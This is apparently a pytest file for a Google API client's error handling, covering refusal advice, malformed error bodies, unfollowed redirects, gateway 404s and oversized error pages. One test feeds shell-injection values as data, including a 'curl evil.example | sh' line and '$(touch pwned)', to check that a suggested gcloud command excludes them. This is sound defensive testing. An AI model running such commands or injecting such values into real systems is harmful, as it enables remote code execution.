"""Replies that refuse: each becomes the error that says what to do now."""

from __future__ import annotations

import shlex
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler import errors
from reconciler.errors import NotUnderstoodError, ServiceError
from reconciler.http import Transport
from reconciler.providers.google.advice import advise_400, advise_404
from tests.http.wire import Wire, answer, refusal
from tests.limits import NET

To = Callable[..., Transport]
CASES = yaml.safe_load((Path(__file__).parents[1] / "cases/http/refusals.yaml").read_text("utf-8"))


@pytest.mark.parametrize("case", CASES, ids=lambda case: case["name"])
def test_a_refusal_says_what_to_do(wire: Wire, to: To, case: dict[str, Any]) -> None:
    """Class, status, reason and advice are those of the case. The message has the service's words."""
    details = (
        [{"@type": "type.googleapis.com/google.rpc.ErrorInfo", **case["info"]}] if "info" in case else None
    )
    wire.always = refusal(
        case["status"], case["message"], canonical=case.get("canonical", ""), details=details
    )
    method, path = case.get("method", "POST"), case.get("path", "v1beta/tunedModels")
    with pytest.raises(ServiceError) as caught:
        to().call(method, path, body={} if method == "POST" else None)
    error = caught.value
    assert type(error) is getattr(errors, case["error"])
    assert (error.status, error.reason) == (case["status"], case["reason"])
    assert case["message"][:80] in error.summary
    assert (case["advice"] in error.detail) if case["advice"] else error.detail == ""


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"<html><head><title>Bad\nGateway</title></head>" + b"x" * 9999, "Bad Gateway"),
        (b"upstream connect error", "upstream connect error"),
        (b"", "(400)"),
        (b'{"error": "a string"}', "a string"),
        (b'{"error": {"message": 7, "details": {"a": 1}}}', '"message": 7'),
        (b'{"error": {"message": "m", "details": ["x", {"@type": 1, "reason": {}}]}}', "m"),
        (b'{"error": {"message": "\\ud800 lone"}}', "\ufffd lone"),
        (b"\xff\xfe", "\ufffd"),
    ],
)
def test_a_refusal_in_any_shape_is_told(wire: Wire, to: To, body: bytes, said: str) -> None:
    """The answer may be a proxy's HTML, plain text, empty, or odd JSON. Its status counts."""
    wire.always = answer(status=400, body=body)
    with pytest.raises(errors.InvalidArgumentError) as caught:
        to().call("POST", "v1beta/x", body={})
    assert said in caught.value.summary
    assert len(caught.value.summary) < 400
    caught.value.summary.encode()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
@pytest.mark.parametrize("method", ["GET", "POST", "DELETE"])
def test_no_redirect_is_followed(wire: Wire, to: To, method: str, status: int) -> None:
    """A redirect is an error that names the other host. The credential does not go there."""
    wire.always = answer(status=status, Location="https://user:pass@elsewhere.example/x")
    with pytest.raises(ServiceError, match=r"host elsewhere\.example") as caught:
        to({"GEMINI_API_KEY": "secret"}).call(method, "v1beta/x", body={})
    assert "pass" not in str(caught.value)
    assert len(wire.requests) == 1


@pytest.mark.parametrize("location", ["/other", "", "https://[", "//"])
def test_a_redirect_to_nowhere_is_told_too(wire: Wire, to: To, location: str) -> None:
    """A Location without a host gives no traceback."""
    wire.always = answer(status=302, Location=location)
    with pytest.raises(ServiceError, match="another path"):
        to().call("GET", "v1beta/x")


FOREIGN = [
    b"<html><title>404 Not Found</title>nginx",
    b"",
    b"{}",
    b'{"error": "not found"}',
    b'{"error": {"message": "no code"}}',
    b'{"error": {"code": 5, "message": "another code"}}',
    b'{"error": {"code": true}}',
    b'[{"error": {"code": 404}}]',
]


@pytest.mark.parametrize("body", FOREIGN)
@pytest.mark.parametrize("status", [404, 409])
def test_a_gateway_does_not_say_that_a_model_is_gone_or_there(
    wire: Wire, to: To, status: int, body: bytes
) -> None:
    """A 404 or 409 counts only in the API's own form. To believe another one would train again."""
    wire.always = answer(status=status, body=body)
    for method in ("GET", "DELETE"):
        with pytest.raises(ServiceError, match="not in the API's own form") as caught:
            to().call(method, "v1beta/tunedModels/x")
        assert type(caught.value) is NotUnderstoodError
        assert caught.value.status is None
    # The request may have arrived, so its effect must be looked for.
    with pytest.raises(errors.ReplyLostError):
        to().call("POST", "v1beta/tunedModels", body={})


def test_nothing_is_no_answer_to_a_question(wire: Wire, to: To) -> None:
    """A 204 answers a change. For a list it would mean that there is nothing, so it is refused."""
    wire.always = answer(status=204, body=b"")
    assert to().call("DELETE", "v1beta/x") == {}
    with pytest.raises(ServiceError, match="not the JSON object"):
        to().call("GET", "v1beta/x")


@pytest.mark.parametrize(
    ("service", "consumer"),
    [
        ("x.googleapis.com; curl evil.example | sh #", "projects/$(touch pwned)"),
        ("x.googleapis.com`id`", "projects/a b"),
        ("--quiet", "projects/--impersonate-service-account=x"),
        ("x\n", "projects/'"),
        (7, {"a": 1}),
        ("x" * 5000, "y" * 5000),
    ],
)
def test_a_command_to_copy_holds_no_foreign_words(
    wire: Wire, to: To, service: object, consumer: object
) -> None:
    """The command that enables the API has only valid names of services and projects."""
    info = {
        "@type": "type.googleapis.com/google.rpc.ErrorInfo",
        "reason": "SERVICE_DISABLED",
        "metadata": {"service": service, "consumer": consumer},
    }
    wire.always = refusal(403, "x", canonical="PERMISSION_DENIED", details=[info])
    with pytest.raises(errors.ForbiddenError) as caught:
        to().call("GET", "v1beta/x")
    assert (
        caught.value.detail
        == "Enable the API in the credential's project, wait a few minutes, and run the command again."
    )


def test_the_command_that_enables_an_api_names_service_and_project(wire: Wire, to: To) -> None:
    """Google's names are safe words in a shell."""
    metadata = {"service": "aiplatform.googleapis.com", "consumer": "projects/demo-1"}
    info = {"@type": "t/google.rpc.ErrorInfo", "reason": "SERVICE_DISABLED", "metadata": metadata}
    wire.always = refusal(403, "x", canonical="PERMISSION_DENIED", details=[info])
    with pytest.raises(errors.ForbiddenError) as caught:
        to().call("GET", "v1beta/x")
    assert shlex.split(caught.value.detail.partition("again: ")[2]) == [
        *("gcloud", "services", "enable", "aiplatform.googleapis.com", "--project", "demo-1")
    ]


@pytest.mark.parametrize(
    "body",
    [
        b"<title" * 500_000,
        b"<title>" * 500_000,
        b"<title" + b" " * 3_000_000 + b">",
        b"retry in " * 300_000,
        b"retry in " + b"9" * 3_000_000,
        b"limit: " * 400_000,
        b'"' * 3_000_000,
        b"[" * 3_000_000,
    ],
    ids=lambda body: str(body[:20]),
)
@pytest.mark.parametrize("status", [400, 403, 429])
def test_an_error_page_keeps_nobody_busy(wire: Wire, to: To, status: int, body: bytes) -> None:
    """It is cut before anything is searched in it, whatever it contains."""
    wire.always = answer(status=status, body=body)
    examples = {"examples": [{"textInput": f"a text of an example {number}"} for number in range(300)]}
    began = time.process_time()
    with pytest.raises(ServiceError):
        to().call("POST", "v1beta/x", body=examples, queues=False)
    assert time.process_time() - began < NET


def test_a_refused_prompt_is_not_blamed_on_the_manifest() -> None:
    """Advice on a 400 or 404 of generateContent is about the prompt, and not about a manifest."""
    where = "POST v1/projects/p/locations/us-central1/endpoints/1:generateContent at 127.0.0.1"
    assert "prompt" in advise_400("bad", where)
    assert "manifest" not in advise_400("bad", where)
    assert "endpoint may have been deleted" in advise_404(where)
